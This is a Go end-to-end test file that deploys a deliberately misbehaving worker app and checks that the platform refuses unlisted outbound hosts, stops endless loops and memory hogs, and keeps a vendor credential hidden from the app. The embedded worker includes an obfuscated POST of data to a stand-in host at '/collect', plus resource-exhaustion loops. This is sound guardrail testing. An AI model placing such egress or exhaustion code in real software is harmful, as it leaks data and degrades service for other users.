package tour

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"time"

	"github.com/paddock-dev/paddock/internal/app/visit"
	"github.com/paddock-dev/paddock/internal/core"
	"github.com/paddock-dev/paddock/internal/door/view"
)

// vendorSecret is the organisation's credential at the vendor.
const vendorSecret = "tds-3f9c-tour-credential"

// wild is the worker of an app that misbehaves on request.
const wild = `// An app that misbehaves when it is asked to.
const kept: Uint8Array[] = [];

export default {
  async fetch(request: Request): Promise<Response> {
    const { pathname } = new URL(request.url);
    if (pathname === "/api/loop") {
      for (;;) {
        kept.length = 0;
      }
    }
    if (pathname === "/api/hog") {
      for (let i = 0; i < 1000; i++) {
        kept.push(new Uint8Array(4194304).fill(i % 256));
      }
    }
    if (pathname === "/api/work") {
      let sum = 0;
      for (let i = 0; i < 60000000; i++) {
        sum = (sum * 31 + i) % 1000003;
      }
      return new Response(String(sum));
    }
    if (pathname === "/api/elsewhere") {
      const host = ["unlisted", "example", "org"].join(".");
      const answer = await fetch("https:" + "//" + host + "/collect", { method: "POST", body: "data" });
      return new Response(await answer.text(), { status: answer.status });
    }
    return new Response("calm");
  },
};
`

// guardrails holds the limits against an app that misbehaves: an unlisted host
// is refused and recorded, the vendor gets the credential that the app never
// sees, a loop and a memory hog are stopped, and the neighbour goes on answering.
func guardrails(ctx context.Context, r *road) (evidence, error) {
	neighbour, err := r.address(ctx, r.app)
	if err != nil {
		return nil, err
	}
	vendor, err := r.enrich(ctx, neighbour)
	if err != nil {
		return nil, err
	}
	if err := r.wildApp(ctx); err != nil {
		return nil, err
	}
	address, err := r.address(ctx, "wild-app")
	if err != nil {
		return nil, err
	}
	status, text, err := r.colleague.Page(ctx, address+"/api/elsewhere")
	if err := visit.First(err, visit.Must(status == http.StatusForbidden && contains(text, "unlisted.example.org"), "the unlisted host is answered %d: %.300s", status, text)); err != nil {
		return nil, err
	}
	loop, err := r.stopped(ctx, address+"/api/loop", neighbour)
	if err != nil {
		return nil, err
	}
	hog, err := r.stopped(ctx, address+"/api/hog", neighbour)
	if err != nil {
		return nil, err
	}
	err = visit.Until(ctx, patience, "the stopped app to answer again", func() (bool, error) {
		status, text, err = r.colleague.Page(ctx, address+"/api/calm")
		return status == http.StatusOK && text == "calm", err
	})
	if err != nil {
		return nil, err
	}
	kinds, err := r.incidents(ctx, "wild-app", "egress_refused", "limit_hit")
	return evidence{"vendor": vendor, "unlisted host": "refused and recorded", "endless loop": loop, "memory hog": hog, "incidents": kinds}, err
}

// enrich has the tracker call its vendor: the vendor sees the credential, the
// app does not.
func (r *road) enrich(ctx context.Context, address string) (string, error) {
	_, text, err := r.colleague.Page(ctx, address+"/api/candidates")
	if err != nil {
		return "", err
	}
	var list struct {
		Candidates []struct {
			ID string `json:"id"`
		} `json:"candidates"`
	}
	if err := visit.First(json.Unmarshal([]byte(text), &list), visit.Must(len(list.Candidates) == 1, "there are %d candidates", len(list.Candidates))); err != nil {
		return "", err
	}
	status, text, err := r.colleague.Send(ctx, address+"/api/candidates/"+list.Candidates[0].ID+"/enrich", map[string]string{})
	seen := r.vendor.credentials()
	err = visit.First(err, visit.Must(status == http.StatusOK && contains(text, "Engineer at Example Works"), "the vendor's answer did not arrive (%d): %.300s", status, text),
		visit.Must(len(seen) == 1 && seen[0] == "Bearer "+vendorSecret, "the vendor saw %d calls with other credentials", len(seen)),
		visit.Must(!contains(text, vendorSecret), "the app has seen the credential"))
	return "answered; it saw the credential, the app did not", err
}

// wildApp takes the misbehaving app through the whole road.
func (r *road) wildApp(ctx context.Context) error {
	form := r.form("wild-app", "internal")
	form.Budget = 0.01
	if err := r.maker.Call(ctx, "POST", "/apps", form, nil); err != nil {
		return err
	}
	if _, err := r.waitFor(ctx, form.Name, core.AppActive); err != nil {
		return err
	}
	c, err := r.cloneOf(ctx, r.maker, form.Name, "wild")
	if err != nil {
		return err
	}
	if _, err := c.Run(ctx, "checkout", "-q", "-b", "wild"); err != nil {
		return err
	}
	if _, err := c.Run(ctx, "rm", "-q", "-r", "src"); err != nil {
		return err
	}
	if err := visit.First(c.Write("src/worker.ts", wild), c.Edit("microapp.yaml", "timeout_ms: 10000", "timeout_ms: 2000"), c.Commit(ctx, "Do as you are told")); err != nil {
		return err
	}
	if _, err := c.Run(ctx, "push", "-q", "origin", "wild"); err != nil {
		return err
	}
	return r.ship(ctx, form.Name, 1)
}

// ship merges a change and deploys what was built.
func (r *road) ship(ctx context.Context, app string, number int) error {
	c, err := r.checked(ctx, app, number)
	if err != nil {
		return err
	}
	if err := visit.First(visit.Must(c.Verdict == core.Passed, "the report of %s is %q: %v", app, c.Verdict, findings(c)), r.merge(ctx, app, c)); err != nil {
		return err
	}
	var a view.App
	if err := r.maker.Call(ctx, "GET", "/apps/"+app, nil, &a); err != nil {
		return err
	}
	return visit.First(visit.Must(len(a.Artifacts) > 0, "%s was not built", app), r.deploy(ctx, app, a.Artifacts[0].Digest, "eu-sovereign"))
}

// stopped asks for something endless and demands that it is ended, while the
// neighbour goes on answering. It returns how it ended.
func (r *road) stopped(ctx context.Context, address, neighbour string) (string, error) {
	begun := time.Now()
	type answer struct {
		status int
		err    error
	}
	over := make(chan answer, 1)
	go func() {
		status, _, err := r.colleague.Page(ctx, address)
		over <- answer{status, err}
	}()
	slowest := time.Duration(0)
	for asked := 0; ; asked++ {
		at := time.Now()
		if err := r.listed(ctx, neighbour, "Ada Lovelace"); err != nil {
			return "", err
		}
		slowest = max(slowest, time.Since(at))
		select {
		case a := <-over:
			return fmt.Sprintf("stopped after %.1f s with %d; the neighbour answered %d times, at most %d ms", time.Since(begun).Seconds(), a.status, asked+1, slowest.Milliseconds()),
				visit.First(a.err, visit.Must(a.status >= 500, "%s was answered %d", address, a.status))
		default:
		}
		if time.Since(begun) > patience {
			return "", visit.Must(false, "%s was not stopped within %s", address, patience)
		}
	}
}

// incidents demands that each kind was recorded for an app and counts them.
func (r *road) incidents(ctx context.Context, app string, kinds ...string) (map[string]int, error) {
	var a view.App
	if err := r.maker.Call(ctx, "GET", "/apps/"+app, nil, &a); err != nil {
		return nil, err
	}
	n := map[string]int{}
	for _, i := range a.Incidents {
		n[i.Kind]++
	}
	for _, k := range kinds {
		if err := visit.Must(n[k] > 0, "no incident of the kind %s was recorded", k); err != nil {
			return n, err
		}
	}
	return n, nil
}
